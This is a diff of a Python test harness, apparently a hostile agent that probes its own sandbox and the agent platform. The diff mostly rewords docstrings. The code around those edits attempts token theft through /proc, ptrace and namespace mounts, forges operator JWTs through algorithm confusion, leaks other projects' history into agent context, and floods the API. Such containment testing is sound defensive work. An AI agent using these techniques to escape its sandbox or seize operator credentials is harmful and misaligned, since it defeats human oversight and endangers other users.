@@ -1,15 +1,15 @@
-"""An agent that tries whatever it can with its own environment and its own process.
+"""An agent that attacks whatever it can reach from its own environment and process.
 
     agent.py PHASE
 
-It writes `hostile-report-PHASE.json` into its working directory, ``{attempt: "got: what" | "refused: how"}``, anew
-after each attempt, and at the end `hostile-times-PHASE.json` with when each began and ended (seconds of the monotonic
-clock). A third verdict, ``left: word``, is for whoever can look from outside: it was accepted, and ``word`` stands
-where it should not if it did any harm.
+After each attempt it rewrites `hostile-report-PHASE.json` in its working directory: ``{attempt: "got: what" | "refused:
+how"}``. At the end it writes `hostile-times-PHASE.json` with the start and end of each attempt (seconds of the
+monotonic clock). A third verdict, ``left: word``, needs a check from outside: the input was accepted, and it did harm
+if ``word`` shows up where it should not.
 
-Where things are is not its secret: ``HOSTILE_TARGETS`` (JSON) names the paths and pids that a patient attacker finds
-out. Nothing is changed for good: what can be written is opened and not written, a signal is taken back at once, mounts
-are made in a namespace that ends with the attempt, and only processes of the test are touched, after a look at their
+Locations are not secret from it: ``HOSTILE_TARGETS`` (JSON) names the paths and pids that a patient attacker would
+find. It changes nothing permanently: files are opened for writing but not written, a signal is undone at once, mounts
+are made in a namespace that ends with the attempt, and only processes of the test are touched, after a check of their
 command lines.
 """
 
@@ -44,7 +44,7 @@ from urllib.parse import quote, urlsplit
 TARGETS: dict[str, Any] = json.loads(os.environ.get("HOSTILE_TARGETS", "{}"))
 ARCHITECT = os.environ.get("AGENT_TYPE", "") == "chief-architect"
 RUN_DIR = Path(os.environ.get("AGENT_RUN_DIR", "/nowhere"))
-# What the shim writes of the run, above what the agent may see.
+# What the shim writes of the run, above the directory that the agent may see.
 RECORDS = RUN_DIR.parent
 STORAGE = Path(TARGETS.get("storage", "/nowhere"))
 HOME = Path(os.environ.get("HOME", "/nowhere"))
@@ -52,15 +52,15 @@ UNITS = HOME / ".config" / "systemd" / "user"
 TOKEN = os.environ.get("JWT_TOKEN", "")
 ISSUE = os.environ.get("ISSUE_ID", "")
 TYPE = os.environ.get("AGENT_TYPE", "")
-# No attempt takes longer.
+# The limit of one attempt.
 _ATTEMPT_SECONDS = 60
 _CALL_SECONDS = 20.0
-# A token, or so much of one that it says whose it is.
+# A token, or enough of one to tell whose it is.
 _JWT = re.compile(r"eyJ[\w-]{10,}\.eyJ[\w-]{40,}")
 
 
 class Refused(Exception):
-    """The attempt came to nothing; the text says how."""
+    """The attempt failed; the text says how."""
 
 
 Attempt = Callable[[], str]
@@ -68,7 +68,7 @@ _attempts: dict[str, dict[str, Attempt]] = {}
 
 
 def attempt(phase: str, name: str, *, only: str = "") -> Callable[[Attempt], Attempt]:
-    """``only``: ``architect`` or ``coder``, where it is no attack for the other."""
+    """``only``: ``architect`` or ``coder``, if the attempt is an attack only for that one."""
 
     def add(act: Attempt) -> Attempt:
         if only in ("", "architect" if ARCHITECT else "coder"):
@@ -93,7 +93,7 @@ def read(path: Path | str) -> str:
 
 
 def listed(path: Path) -> str:
-    """Names in a directory, other than those that lead to the agent's own files."""
+    """Names in a directory, without those that lead to the agent's own files."""
     own = set(RUN_DIR.parts)
     names = sorted({entry.name for entry in path.iterdir()} - own)
     if not names:
@@ -102,7 +102,7 @@ def listed(path: Path) -> str:
 
 
 def may_write(path: Path) -> str:
-    """Opens and writes nothing. What a device is put over takes everything, and keeps nothing."""
+    """Opens for writing and writes nothing. A device mounted over the file accepts all writes and discards them."""
     descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
     mode = os.fstat(descriptor).st_mode
     os.close(descriptor)
@@ -112,7 +112,7 @@ def may_write(path: Path) -> str:
 
 
 def may_add_to(directory: Path) -> str:
-    """A file without a name, which is gone when it is closed."""
+    """Uses an unnamed file, which disappears when it is closed."""
     try:
         os.close(os.open(directory, os.O_TMPFILE | os.O_WRONLY, 0o600))
     except OSError as problem:
@@ -123,7 +123,7 @@ def may_add_to(directory: Path) -> str:
 
 
 def may_make(path: Path) -> str:
-    """One that was not there, and is gone afterwards."""
+    """Creates a file and removes it again."""
     os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
     path.unlink()
     return f"made {path}"
@@ -141,7 +141,7 @@ def victim_directory() -> Path:
 
 
 def read_of_victim(name: str) -> str:
-    """What the other agent was given may lie in a directory of its own."""
+    """The other agent's environment and files may be in a directory of its own."""
     with contextlib.suppress(FileNotFoundError):
         return read(victim_directory() / "agent" / name)
     return read(victim_directory() / name)
@@ -238,7 +238,7 @@ for _name, _path in {
 
 
 def ways_up() -> list[str]:
-    """From the run's directory, wherever in the storage it is."""
+    """Walks up from the run's directory, wherever in the storage it is."""
     return ["../" * steps for steps in range(1, 7)]
 
 
@@ -265,7 +265,9 @@ def by_descriptor() -> str:
 
 @attempt("files", "make a directory in which commands look for sidecars")
 def where_sidecars_are() -> str:
-    """Who makes it first says where the operator's commands go. Not made: whether it could be is enough."""
+    """Whoever creates this directory first decides where the operator's commands go. It is enough to know whether it
+    could be created.
+    """
     runtime = os.environ.get("XDG_RUNTIME_DIR", "/nowhere")
     said = []
     for place in (Path(runtime, "cco-sidecar"), Path(f"/tmp/cco-sidecar-{os.getuid()}")):
@@ -294,7 +296,7 @@ def by_hard_link() -> str:
 
 @attempt("files", "use a descriptor that was left open")
 def inherited() -> str:
-    """A program is given three; whatever else is open came from its parents."""
+    """A program gets three descriptors; any other open one was inherited."""
     found = []
     for entry in Path("/proc/self/fd").iterdir():
         with contextlib.suppress(OSError):
@@ -313,7 +315,7 @@ def other_project() -> str:
 
 @attempt("files", "open operator.token by its file handle")
 def by_handle() -> str:
-    """open_by_handle_at(2) knows no paths, and so no mounts over them."""
+    """open_by_handle_at(2) takes no paths, so mounts over them do not matter."""
     known = TARGETS.get("handle")
     if not known:
         raise Refused("the file system has no handles")
@@ -334,14 +336,14 @@ def by_handle() -> str:
 # -- processes --------------------------------------------------------------------------------------------
 
 
-def words_of(pid: int) -> str:
+def command_line_of(pid: int) -> str:
     return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
 
 
 def parent() -> int:
-    """Its shim, or what stands between them."""
+    """Its shim, or whatever process is between them."""
     pid = os.getppid()
-    if "shim" not in words_of(pid):
+    if "shim" not in command_line_of(pid):
         raise Refused("its parent is nobody's shim")
     return pid
 
@@ -356,9 +358,9 @@ def victim() -> int:
 
 
 def known_as(pid: int, word: str) -> int:
-    """The pid, when the process there is the one that is meant: here it may be another's, or nobody's."""
+    """The pid, if the process is the one meant: in this namespace the pid may belong to another process, or to none."""
     try:
-        words = words_of(pid)
+        words = command_line_of(pid)
     except OSError as problem:
         raise Refused("there is no such process here") from problem
     if word not in words:
@@ -388,7 +390,7 @@ def below_root_of(whose: Callable[[], int]) -> str:
 
 
 def below_directory_of(whose: Callable[[], int]) -> str:
-    """From wherever its working directory is."""
+    """From its working directory, wherever that is."""
     pid = whose()
     place = Path(f"/proc/{pid}/cwd").readlink()
     return read(f"/proc/{pid}/cwd/{os.path.relpath(TOKEN_FILE, place)}")
@@ -401,7 +403,7 @@ def memory_of(whose: Callable[[], int]) -> str:
 
 
 def traced(whose: Callable[[], int]) -> str:
-    """PTRACE_SEIZE, by a child whose end lets go again."""
+    """PTRACE_SEIZE, by a child whose exit detaches again."""
     pid = whose()
 
     def seize() -> str:
@@ -428,7 +430,7 @@ def descriptor_stolen_from(whose: Callable[[], int]) -> str:
 
 
 def stopped(whose: Callable[[], int]) -> str:
-    """And let go on at once."""
+    """Stops the process and continues it at once."""
     pid = whose()
     os.kill(pid, signal.SIGSTOP)
     try:
@@ -444,7 +446,9 @@ def stopped(whose: Callable[[], int]) -> str:
 
 
 def killed(whose: Callable[[], int]) -> str:
-    """Asks whether it might; only a namespace's first process, which cannot be killed from inside, is sent it."""
+    """Only asks whether it may send SIGKILL. It really sends it only to the first process of a namespace, which cannot
+    be killed from inside.
+    """
     pid = whose()
     if pid == 1:
         os.kill(pid, signal.SIGKILL)
@@ -454,7 +458,7 @@ def killed(whose: Callable[[], int]) -> str:
 
 
 def limited(whose: Callable[[], int]) -> str:
-    """Sets a limit to what it is."""
+    """Sets a limit to its current value."""
     pid = whose()
     if pid == 1:
         raise Refused("the first process of its own namespace is its own")
@@ -486,7 +490,7 @@ _MNT_DETACH = 2
 
 
 def in_child(act: Callable[[], str], seconds: float = 10.0) -> str:
-    """What ``act`` gives in a process of its own, which leaves nothing behind."""
+    """The result of ``act`` in a separate process, which leaves nothing behind."""
     theirs, ours = socket.socketpair()
     child = os.fork()
     if child == 0:
@@ -531,7 +535,7 @@ def unmount(target: str) -> None:
 
 
 def own_namespace(flags: int) -> None:
-    """A mount namespace in which whatever happens is nobody else's; with a user namespace, all capabilities in it."""
+    """A private mount namespace; together with a user namespace, it has all capabilities there."""
     user, group = os.geteuid(), os.getegid()
     called(ctypes.CDLL(None, use_errno=True).unshare(flags), "unshare")
     if flags & _NEWUSER:
@@ -543,12 +547,12 @@ def own_namespace(flags: int) -> None:
 
 
 def below(directory: Path) -> str:
-    """The token, where ``directory`` shows what lies in the storage's."""
+    """The token, if ``directory`` shows the contents of the storage."""
     return read(directory / TOKEN_FILE.relative_to(STORAGE.parent))
 
 
 def in_namespace(act: Callable[[Path], str]) -> Attempt:
-    """``act`` gets an empty directory of its own. Once as who it is, and once as root of a user namespace."""
+    """``act`` gets a private empty directory. It runs as the current user, and as root of a user namespace."""
 
     def inside(flags: int, place: Path) -> str:
         own_namespace(flags)
@@ -582,7 +586,7 @@ def uncovered_home(place: Path) -> str:
 
 
 def bound(place: Path) -> str:
-    """Without what is mounted below it."""
+    """A bind mount without the mounts below it."""
     mount(str(STORAGE.parent), str(place), None, _MS_BIND)
     return below(place)
 
@@ -608,7 +612,7 @@ def cloned(place: Path) -> str:
 
 
 def made_writable(place: Path) -> str:
-    """A read-only mount, mounted anew without that."""
+    """Remounts a read-only mount as writable."""
     package = str(TARGETS["package"])
     mount(None, package, None, 32 | _MS_BIND)
     return may_write(Path(package) / "__init__.py")
@@ -681,7 +685,7 @@ def system_device() -> str:
 
 
 def entered(whose: Callable[[], int]) -> str:
-    """setns(2): the namespaces of another process, the users' too where that is allowed."""
+    """setns(2): the namespaces of another process, including its user namespace where that is allowed."""
     pid = whose()
 
     def act() -> str:
@@ -743,7 +747,7 @@ def bus_addresses() -> list[str]:
 
 @attempt("sockets", "speak on the user's D-Bus")
 def session_bus() -> str:
-    """So far as to be taken for the user."""
+    """Goes just far enough to be accepted as the user."""
     said = []
     for address in bus_addresses():
         try:
@@ -771,7 +775,7 @@ def systemd_run() -> str:
 
 @attempt("sockets", "connect to a socket of the sidecar's")
 def own_sockets() -> str:
-    """Those that it listens on, and whatever bears its name in the user's own directories."""
+    """Sockets that it listens on, and those named after it in the user's own directories."""
     runtime = Path(os.environ.get("XDG_RUNTIME_DIR", "/nowhere"))
     places = [*map(Path, TARGETS.get("sockets", [])), *runtime.glob("cco-sidecar*"), *runtime.glob("cco-sidecar*/*")]
     said = []
@@ -820,7 +824,7 @@ def call(
     timeout: float = _CALL_SECONDS,
     patient: bool = True,
 ) -> Said:
-    """``patient``: who is told to come again later does so once."""
+    """``patient``: retries once when told to come back later."""
     sent = {"Authorization": f"Bearer {token}"} if token else {}
     data = body if isinstance(body, bytes) else None if body is None else json.dumps(body).encode()
     sent |= {"Content-Type": "application/json"} if data is not None else {}
@@ -838,7 +842,7 @@ def call(
 
 
 def unless_refused(said: Said, what: str) -> str:
-    """A success is what was wanted; and so is an error that nobody meant to give."""
+    """A success counts as a hit, and so does an internal error."""
     if said.status < 300:
         return f"{what}: {said.status} {said.text[:120]}"
     if said.code == "INT_001":
@@ -950,7 +954,7 @@ def part(value: Any) -> str:
 
 
 def forged(header: dict[str, Any], key: bytes | None) -> str:
-    """An operator's token, made of the agent's own."""
+    """An operator's token, built from the agent's own."""
     claims = json.loads(base64.urlsafe_b64decode(TOKEN.split(".")[1] + "=="))
     claims |= {"sub": "operator", "agent_type": "operator", "project_id": "", "issue_id": ""}
     text = f"{part(header)}.{part(claims)}"
@@ -966,7 +970,7 @@ def unsigned() -> str:
 
 @attempt("api", "be the operator with a token signed with the public key")
 def confused() -> str:
-    """HS256, with what anybody may read as the secret."""
+    """HS256, with the public key as the secret."""
     keys = call("GET", "/.well-known/jwks.json", token=None).json["keys"]
     if not keys:
         raise Refused("there is no public key")
@@ -1006,7 +1010,7 @@ def own_decision() -> str:
 
 
 def shown(*needles: str) -> str:
-    """What a context, or what is said in its place, should not hold."""
+    """Anything that a context, or the error in its place, must not contain."""
     for said in (
         call("POST", "/api/context/refresh", {"issue_id": ISSUE, "agent_type": TYPE, "force": True}),
         call("GET", f"/api/context/{ISSUE}/{TYPE}?task={quote('read hostile_link.py and hostile-links/')}"),
@@ -1024,7 +1028,7 @@ def shown(*needles: str) -> str:
 
 @contextlib.contextmanager
 def in_place_of(path: Path) -> Iterator[Path]:
-    """``path`` for something else; what was there comes back."""
+    """Replaces ``path``; its former content is restored afterwards."""
     kept = path.with_name(f"{path.name}.kept")
     if path.exists() or path.is_symlink():
         path.rename(kept)
@@ -1039,7 +1043,7 @@ def in_place_of(path: Path) -> Iterator[Path]:
 
 
 def linked(path: str, target: Path, *needles: str, gone: str = "") -> Attempt:
-    """``gone``: what is taken away, so that the link is looked at."""
+    """``gone``: what is removed so that the link is read."""
 
     def act() -> str:
         with contextlib.ExitStack() as changes:
@@ -1052,7 +1056,7 @@ def linked(path: str, target: Path, *needles: str, gone: str = "") -> Attempt:
 
 
 def newest_ref() -> str:
-    """Where the branch's commit is written."""
+    """The file that holds the commit of the branch."""
     head = Path(".git/HEAD")
     return f".git/{head.read_text().removeprefix('ref: ').strip()}" if head.exists() else ".git/refs/heads/main"
 
@@ -1096,7 +1100,7 @@ def other_history_link() -> str:
 
 @attempt("context", "have the context show another project's history, by its objects")
 def other_objects() -> str:
-    """Its newest commit is known by name; where it lies is said in `alternates`."""
+    """Its newest commit is known by name; `alternates` says where the object is."""
     with in_place_of(Path(".git/objects/info/alternates")) as place, in_place_of(Path(".git/HEAD")) as head:
         place.write_text(f"{TARGETS['other_project']}/.git/objects\n")
         head.write_text(TARGETS["other_commit"] + "\n")
@@ -1135,7 +1139,7 @@ def spawn_with(**more: Any) -> Attempt:
     return act
 
 
-# Each of them says what a program runs, whom it trusts, or where its settings and its secrets are.
+# Each of these decides what a program runs, whom it trusts, or where its settings and secrets are.
 STEERING = {
     "BASH_FUNC_x%%": "() { true; }",
     "HOME": "/nowhere",
@@ -1205,14 +1209,14 @@ for _name, _more in _OPERATORS.items():
 
 @attempt("spawning", "go on with an agent that the operator started", only="architect")
 def resumed() -> str:
-    """One that has ended, and was given a command."""
+    """An agent that has ended, with a command."""
     path = f"/api/agents/{TARGETS['ended_agent']}/resume"
     return unless_refused(call("POST", path, {"message": "again"}), "started")
 
 
 @attempt("spawning", "start 30 agents, each for an issue of its own", only="architect")
 def many_children() -> str:
-    """An issue has limits of its own; a fresh one has none of them used."""
+    """An issue has its own limits; a fresh issue has used none of them."""
     made = [spawned(f"hostile-fresh-{number}") for number in range(30)]
     accepted = [said for said in made if said.status == 201]
     for said in accepted:
@@ -1227,7 +1231,7 @@ def many_children() -> str:
 
 
 def healthy(what: str) -> str:
-    """What was sent may be taken, as long as everybody else is still served."""
+    """The input may be accepted as long as everybody else is still served."""
     began = time.monotonic()
     try:
         said = call("GET", "/health", token=None, timeout=10)
@@ -1262,7 +1266,7 @@ def result_with(extra: bytes) -> Callable[[], Said]:
 
 
 def listing() -> Said:
-    """What is kept can be read again."""
+    """Whatever was stored can be listed again."""
     return call("GET", "/api/events", patient=False)
 
 
@@ -1292,14 +1296,14 @@ def result_flood() -> str:
 
 @attempt("load", "have a costly pattern matched")
 def costly_filter() -> str:
-    """A star, and as many question marks as the filter may be long."""
+    """A star, and as many question marks as the filter length allows."""
     asked = quote("x:*" + "?" * 2000 + "b")
     value = json.dumps("a" * 250_000).encode()
     return flooded("asked", [*[event_with(value)] * 8, lambda: call("GET", f"/api/events?filter={asked}", timeout=50)])
 
 
 def wire(number: int, data: bytes) -> bytes:
-    """A field with a length (protobuf's encoding, wire type 2)."""
+    """A length-delimited field (protobuf wire type 2)."""
     size, rest = b"", len(data)
     while rest > 127:
         size += bytes((rest & 127 | 128,))
@@ -1308,14 +1312,14 @@ def wire(number: int, data: bytes) -> bytes:
 
 
 def large_result(megabytes: int) -> bytes:
-    """A CreateResultRequest: four bytes of it are a list in a list."""
+    """A CreateResultRequest in which every four bytes are a list within a list."""
     lists_in_list = wire(6, b"\x0a\x02\x32\x00" * (megabytes * 2**20 // 4))
     extra = wire(1, wire(1, b"x") + wire(2, lists_in_list))
     return wire(2, TYPE.encode()) + wire(3, ISSUE.encode()) + wire(5, b"\x08\x01" + wire(15, extra))
 
 
 def large_event(megabytes: int) -> bytes:
-    """A PublishEventRequest: one long text."""
+    """A PublishEventRequest with one long text."""
     data = wire(1, wire(1, b"x") + wire(2, wire(3, b"x" * (megabytes * 2**20))))
     return wire(1, b"hostile") + wire(3, b"testing") + wire(4, data)
 
@@ -1357,7 +1361,7 @@ _BEARER = {"Authorization": f"Bearer {TOKEN}"}
 
 
 def answered(opened: socket.socket, seconds: float) -> str:
-    """The first line of an answer, or that the connection was closed; empty while neither has come."""
+    """The first line of an answer, or that the connection was closed; empty while neither has happened."""
     ready, _, _ = select.select([opened], [], [], seconds)
     if not ready:
         return ""
@@ -1369,7 +1373,7 @@ def answered(opened: socket.socket, seconds: float) -> str:
 
 
 def trickled(size: int, headers: Mapping[str, str], seconds: float = 4.0) -> str:
-    """Announces a body and sends it in drops."""
+    """Announces a body and sends it a few bytes at a time."""
     opened = sent_request(
         "POST", "/api/events/hostile", {"Content-Type": "application/json", "Content-Length": str(size), **headers}
     )
@@ -1402,7 +1406,7 @@ def endless_chunks() -> str:
 
 
 def taken_in(opened: socket.socket, piece: bytes, megabytes: int, most: float = 12.0) -> str:
-    """Sends ``piece`` over and over. More than ``most`` megabytes are not to be taken."""
+    """Sends ``piece`` over and over. The server should not take in more than ``most`` megabytes."""
     sent = 0
     while sent < megabytes * 2**20:
         if said := answered(opened, 0):
@@ -1481,7 +1485,7 @@ _MOST_GROWTH_MB = 256.0
 
 @attempt("results", "have 60 large results listed, and read none of the lists")
 def unread_lists() -> str:
-    """Eight readers that do not read: the lists stay where they were made."""
+    """Eight clients that do not read, so the lists stay in the server's memory."""
     text = json.dumps("x" * 2**20).encode()
     store = result_with(text)
     answers = sorted({f"{said.status} {said.code}".strip() for said in (store() for _ in range(60))})
@@ -1514,7 +1518,7 @@ def served_afterwards() -> str:
     return healthy("asked")
 
 
-# -- where nothing is yet ---------------------------------------------------------------------------------
+# -- where nothing exists yet -----------------------------------------------------------------------------
 
 for _name, _path in {
     "~/.cco/config.json": HOME / ".cco" / "config.json",
@@ -1565,7 +1569,7 @@ def verdict(act: Attempt) -> str:
 
 
 def kept(path: Path, value: Any) -> None:
-    """Whole at any time."""
+    """Replaces the file atomically."""
     fresh = path.with_name(f".{path.name}")
     fresh.write_text(json.dumps(value, indent=1))
     fresh.replace(path)
